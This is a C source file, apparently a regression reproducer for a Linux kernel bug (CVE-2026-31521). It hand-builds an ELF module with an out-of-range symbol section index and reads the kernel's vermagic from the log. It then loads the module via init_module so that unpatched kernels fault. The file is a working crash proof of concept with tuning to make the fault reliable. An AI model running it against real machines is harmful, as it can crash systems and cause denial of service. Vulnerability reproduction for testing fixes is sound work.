// CVE-2026-31521 (mainline f9d69d5e7bde, 6.1.168 4bbdb0e48176): simplify_symbols() took any st_shndx that was
// not one of the special SHN_* values as a section index and read info->sechdrs[st_shndx].sh_addr without a
// bounds check, so a module ELF whose symbol says st_shndx 0xffff (SHN_XINDEX) reads 4 MiB past its section
// headers and faults. The fixed kernel refuses it: "Symbol ... has an invalid section index 65535", ENOEXEC.
// Written for kdk from the fix's description: a hand-made relocatable ELF, no module build needed.
//
// The module must pass every check before simplify_symbols (ELF sanity, .modinfo, .gnu.linkonce.this_module,
// the vermagic). The vermagic depends on the kernel's config, so a first load with a wrong one makes the kernel
// print the right one ("version magic 'x' should be 'y'"), read back from the kernel log. The file is 16 MiB
// with its section headers at the end: the kernel's copy of it then lies above the small vmalloc areas taken at
// boot, so 4 MiB past its end is unmapped and the read faults instead of finding some other allocation.
// The module has no __versions section: a MODVERSIONS kernel takes it only with MODULE_FORCE_LOAD (it is then
// tainted, as `modprobe --force` would), which bug.json's requires says; Debian's config has both.
#include <elf.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/klog.h>
#include <sys/syscall.h>
#include <unistd.h>

#define FILE_SIZE (16UL << 20)
#define THIS_MODULE_SIZE 8192 /* at least sizeof(struct module) */
#define MOD_NAME "kdk_shndx"
#define BAD_SHNDX 0xffff /* SHN_XINDEX: not SHN_UNDEF/ABS/COMMON/LIVEPATCH, so taken as a section index */
#define PROBE_MAGIC "kdk-probe"

enum { S_NULL, S_MODULE, S_MODINFO, S_SYMTAB, S_STRTAB, S_SHSTRTAB, S_COUNT };

static const char shstrtab[] = "\0.gnu.linkonce.this_module\0.modinfo\0.symtab\0.strtab\0.shstrtab";
static const char strtab[] = "\0kdk_bad_shndx";

static unsigned name_of(const char *s) {
  for (unsigned i = 1; i < sizeof shstrtab; i += strlen(shstrtab + i) + 1)
    if (!strcmp(shstrtab + i, s)) return i;
  abort();
}

/* The module file: Ehdr, the sections' contents, zeros, then the section headers in the last bytes. */
static unsigned char *build(const char *vermagic, size_t *len) {
  unsigned char *m = calloc(1, FILE_SIZE);
  if (!m) return NULL;
  char modinfo[512];
  int modinfo_len = snprintf(modinfo, sizeof modinfo, "vermagic=%s%cname=" MOD_NAME "%clicense=GPL", vermagic,
                             0, 0) + 1;
  size_t off = 0x1000;
  size_t o_mod = off;
  off += THIS_MODULE_SIZE;
  /* struct module starts { enum module_state state; struct list_head list; char name[]; }: name at 24. */
  strcpy((char *)m + o_mod + 24, MOD_NAME);
  size_t o_info = off;
  memcpy(m + o_info, modinfo, modinfo_len);
  off = (off + modinfo_len + 7) & ~7UL;
  size_t o_sym = off;
  Elf64_Sym *sym = (Elf64_Sym *)(m + o_sym);
  sym[1].st_name = 1;
  sym[1].st_info = ELF64_ST_INFO(STB_GLOBAL, STT_OBJECT);
  sym[1].st_shndx = BAD_SHNDX;
  off += 2 * sizeof(Elf64_Sym);
  size_t o_str = off;
  memcpy(m + o_str, strtab, sizeof strtab);
  off += sizeof strtab;
  size_t o_shstr = off;
  memcpy(m + o_shstr, shstrtab, sizeof shstrtab);

  size_t shoff = FILE_SIZE - S_COUNT * sizeof(Elf64_Shdr);
  Elf64_Shdr *sh = (Elf64_Shdr *)(m + shoff);
  sh[S_MODULE] = (Elf64_Shdr){.sh_name = name_of(".gnu.linkonce.this_module"), .sh_type = SHT_PROGBITS,
                              .sh_flags = SHF_ALLOC | SHF_WRITE, .sh_offset = o_mod, .sh_size = THIS_MODULE_SIZE,
                              .sh_addralign = 64};
  sh[S_MODINFO] = (Elf64_Shdr){.sh_name = name_of(".modinfo"), .sh_type = SHT_PROGBITS, .sh_flags = SHF_ALLOC,
                               .sh_offset = o_info, .sh_size = modinfo_len, .sh_addralign = 1};
  sh[S_SYMTAB] = (Elf64_Shdr){.sh_name = name_of(".symtab"), .sh_type = SHT_SYMTAB, .sh_offset = o_sym,
                              .sh_size = 2 * sizeof(Elf64_Sym), .sh_link = S_STRTAB, .sh_info = 1,
                              .sh_addralign = 8, .sh_entsize = sizeof(Elf64_Sym)};
  sh[S_STRTAB] = (Elf64_Shdr){.sh_name = name_of(".strtab"), .sh_type = SHT_STRTAB, .sh_offset = o_str,
                              .sh_size = sizeof strtab, .sh_addralign = 1};
  sh[S_SHSTRTAB] = (Elf64_Shdr){.sh_name = name_of(".shstrtab"), .sh_type = SHT_STRTAB, .sh_offset = o_shstr,
                                .sh_size = sizeof shstrtab, .sh_addralign = 1};

  Elf64_Ehdr *eh = (Elf64_Ehdr *)m;
  memcpy(eh->e_ident, ELFMAG, SELFMAG);
  eh->e_ident[EI_CLASS] = ELFCLASS64;
  eh->e_ident[EI_DATA] = ELFDATA2LSB;
  eh->e_ident[EI_VERSION] = EV_CURRENT;
  eh->e_type = ET_REL;
  eh->e_machine = EM_X86_64;
  eh->e_version = EV_CURRENT;
  eh->e_shoff = shoff;
  eh->e_ehsize = sizeof(Elf64_Ehdr);
  eh->e_shentsize = sizeof(Elf64_Shdr);
  eh->e_shnum = S_COUNT;
  eh->e_shstrndx = S_SHSTRTAB;
  *len = FILE_SIZE;
  return m;
}

static int load(const char *vermagic) {
  size_t len;
  unsigned char *m = build(vermagic, &len);
  if (!m) return ENOMEM;
  long r = syscall(SYS_init_module, m, len, "");
  int e = r < 0 ? errno : 0;
  free(m);
  return e;
}

/* The kernel's vermagic, from its complaint about ours: "version magic 'kdk-probe' should be '...'". */
static int kernel_vermagic(char *out, size_t size) {
  int n = klogctl(10 /* SYSLOG_ACTION_SIZE_BUFFER */, NULL, 0);
  if (n <= 0) return -1;
  char *log = malloc(n + 1);
  if (!log) return -1;
  n = klogctl(3 /* SYSLOG_ACTION_READ_ALL */, log, n);
  if (n < 0) return free(log), -1;
  log[n] = 0;
  const char *key = "version magic '" PROBE_MAGIC "' should be '";
  char *p = NULL;
  for (char *q = strstr(log, key); q; q = strstr(q + 1, key)) p = q + strlen(key);
  char *end = p ? strchr(p, '\'') : NULL;
  int ok = end && (size_t)(end - p) < size;
  if (ok) memcpy(out, p, end - p), out[end - p] = 0;
  free(log);
  return ok ? 0 : -1;
}

int main(void) {
  int e = load(PROBE_MAGIC);
  char magic[256];
  if (e != ENOEXEC || kernel_vermagic(magic, sizeof magic) < 0) {
    printf("probe load: %s; the kernel did not name its vermagic (no CONFIG_MODULES?)\n", strerror(e));
    return 2;
  }
  printf("kernel vermagic: '%s'; loading a symbol with st_shndx 0x%x\n", magic, BAD_SHNDX);
  fflush(stdout);
  e = load(magic);
  /* A fixed kernel: ENOEXEC ("invalid section index"). A kernel without the fix faults before it returns. */
  printf("init_module: %s\n", e ? strerror(e) : "loaded (st_shndx was not checked, and the read did not fault)");
  return e == ENOEXEC ? 0 : 1;
}
